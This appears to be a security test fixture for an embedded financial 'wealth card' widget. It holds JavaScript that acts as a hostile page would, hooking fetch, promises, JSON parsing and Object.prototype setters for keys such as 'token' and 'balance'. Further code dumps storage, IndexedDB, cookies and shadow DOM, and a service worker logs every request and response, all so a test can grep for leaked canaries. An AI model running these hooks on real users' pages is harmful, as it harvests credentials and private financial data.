/**
 * The hooks and reads of section 3 of the security note, as a hostile page would run them. Everything they catch goes
 * into one list of strings, which the test greps for canaries.
 */

/** 14 hooks; source text, because it runs in the page. */
export const hooks = `(() => {
  const caught = (window.__caught = window.__caught || []);
  const push = caught.push.bind(caught), str = String, stringify = JSON.stringify;
  const note = (name, value) => { try { push(name + ': ' + (typeof value === 'string' ? value : stringify(value) || str(value))); } catch { try { push(name + ': ' + str(value)); } catch {} } };
  const wrap = (object, key, name, look) => { const own = object && object[key]; if (typeof own !== 'function') return;
    object[key] = function (...args) { try { look(args, this); } catch {} const out = own.apply(this, args);
      try { if (out && typeof out.then === 'function' && name !== 'then') then.call(out, (v) => note(name + ' answer', v), () => {}); else note(name + ' answer', out); } catch {} return out; }; };
  const setter = (object, key, name) => { const d = Object.getOwnPropertyDescriptor(object, key); if (!d || !d.set) return;
    Object.defineProperty(object, key, { ...d, set(v) { note(name, str(v)); d.set.call(this, v); } }); };
  const headers = (init) => { try { return stringify([...new Headers(init && init.headers)]); } catch { return ''; } };
  const then = Promise.prototype.then;
  wrap(window, 'fetch', 'fetch', ([input, init]) => { note('fetch', str(input && input.url || input) + ' ' + headers(init) + headers(input) + ' ' + str(init && init.body)); });
  wrap(Response.prototype, 'json', 'Response.json', () => {});
  wrap(Response.prototype, 'text', 'Response.text', () => {});
  wrap(JSON, 'parse', 'JSON.parse', ([t]) => note('JSON.parse', t));
  Promise.prototype.then = function (a, b) { return then.call(this, typeof a === 'function' ? (v) => { if (v && (typeof v === 'string' || typeof v === 'object')) note('then', v); return a(v); } : a, b); };
  wrap(Element.prototype, 'attachShadow', 'attachShadow', () => {});
  { const own = Element.prototype.attachShadow; const roots = (window.__roots = window.__roots || []);
    Element.prototype.attachShadow = function (o) { const r = own.call(this, o); roots.push(r); return r; }; }
  for (const k of ['Worker', 'Blob']) { const own = window[k]; window[k] = new Proxy(own, { construct(t, a) { note(k, str(a[0])); return Reflect.construct(t, a); } }); }
  setter(Node.prototype, 'textContent', 'textContent');
  setter(CharacterData.prototype, 'data', 'Text.data');
  wrap(Node.prototype, 'insertBefore', 'insertBefore', ([n]) => note('insertBefore', n.textContent));
  for (const key of ['token', 'access_token', 'ticket', 'name', 'phone', 'balance', 'customer']) Object.defineProperty(Object.prototype, key, { configurable: true,
    get() { return undefined; }, set(v) { note('Object.prototype.' + key, v); Object.defineProperty(this, key, { value: v, writable: true, enumerable: true, configurable: true }); } });
  wrap(customElements, 'define', 'define', ([n, c]) => { note('define', n + ' ' + str(c)); });
  addEventListener('message', (e) => note('message', e.data));
})();`;

/** 11 reads, run when the card is up; answers with what was caught as one list of `where: what`. */
export const reads = `(async () => {
  const found = [...(window.__caught || [])];
  const put = (name, value) => found.push(name + ': ' + value);
  const seen = new WeakSet();
  const walk = (value, depth) => {
    if (typeof value === 'string') return value + '\\n';
    if (!value || (typeof value !== 'object' && typeof value !== 'function') || depth > 7 || seen.has(value) || value === window || value instanceof Node && depth > 0) return '';
    seen.add(value); let out = '';
    let keys = []; try { keys = Reflect.ownKeys(value); } catch {}
    for (const key of keys) { let inner; try { inner = value[key]; } catch { continue; } out += String(key) + '\\n' + walk(inner, depth + 1); }
    if (value instanceof Map || value instanceof Set) for (const inner of value) out += walk(inner, depth + 1);
    const proto = Object.getPrototypeOf(value);
    if (proto && proto !== Object.prototype && proto !== Function.prototype && proto !== HTMLElement.prototype) out += walk(proto, depth + 1);
    if (typeof value === 'object' && typeof value.getState === 'function') { try { out += walk(value.getState(), depth + 1); } catch {} }
    return out;
  };
  const cards = [...document.querySelectorAll('inlay-wealth-card')];
  put('outerHTML', document.documentElement.outerHTML);
  put('innerText', document.body.innerText);
  for (const card of cards) {
    const root = card.renderRoot || card.shadowRoot;
    put('renderRoot', root && root.innerHTML + root.textContent);
    try { put('attachInternals', card.attachInternals().shadowRoot && card.attachInternals().shadowRoot.innerHTML); } catch (e) { put('attachInternals', e); }
    put('element', walk(card, 0));
  }
  for (const root of window.__roots || []) put('roots', root.innerHTML + root.textContent);
  put('slot', walk(window[Symbol.for('inlay')], 0) + walk(window.inlay, 0));
  put('storage', JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }));
  let dump = '';
  for (const { name } of await indexedDB.databases()) {
    const db = await new Promise((yes, no) => { const r = indexedDB.open(name); r.onsuccess = () => yes(r.result); r.onerror = no; });
    for (const store of db.objectStoreNames) {
      const all = await new Promise((yes) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => yes(r.result); r.onerror = () => yes([]); });
      for (const one of all) dump += JSON.stringify(one) + walk(one, 0);
    }
    db.close();
  }
  put('indexedDB', dump);
  put('performance', JSON.stringify(performance.getEntries()));
  let caches_ = ''; try { for (const n of await caches.keys()) for (const r of await (await caches.open(n)).keys()) caches_ += r.url; } catch {}
  put('cookies and caches', document.cookie + caches_);
  put('location and history', location.href + JSON.stringify(history.state) + document.referrer);
  return found;
})()`;

/** A service worker that notes every request's headers and body and every answer's text, and tells who asks. */
export const serviceWorker = `const seen = [];
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => e.respondWith((async () => {
  const asked = e.request.clone();
  seen.push(asked.method + ' ' + asked.url + ' ' + JSON.stringify([...asked.headers]) + ' ' + (asked.method === 'POST' ? await asked.text() : ''));
  const answer = await fetch(e.request);
  if (answer.type !== 'opaque') { const copy = answer.clone(); copy.text().then((t) => seen.push(asked.url + ' -> ' + t), () => {}); }
  return answer;
})()));
self.addEventListener('message', (e) => e.ports[0].postMessage(seen));`;
